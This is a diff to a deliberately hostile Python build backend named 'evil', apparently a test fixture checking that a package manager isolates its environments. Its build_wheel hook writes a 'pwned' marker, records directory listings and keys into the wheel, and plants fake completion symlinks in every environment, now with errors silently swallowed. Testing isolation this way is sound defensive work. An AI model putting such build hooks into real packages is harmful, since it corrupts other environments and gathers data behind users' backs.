@@ -77,8 +77,10 @@ def build_wheel(folder, config_settings=None, metadata_directory=None):
     tried(home + "/pwned")
     seen = [keys, sorted(os.listdir(state))]
     for name in os.listdir("/.headrace/environments"):
-        if not os.path.islink("/.headrace/environments/" + name + "/.headrace-complete"):
+        try:
             os.symlink(home + "/pwned", "/.headrace/environments/" + name + "/.headrace-complete")
+        except OSError:
+            pass  # It is there already, or the environment cannot be written to while versions are chosen.
     with zipfile.ZipFile(os.path.join(folder, "evil-1-py3-none-any.whl"), "w") as z:
         z.writestr("evil.py", "SEEN = " + repr(seen))
         z.writestr("evil-1.dist-info/METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n")
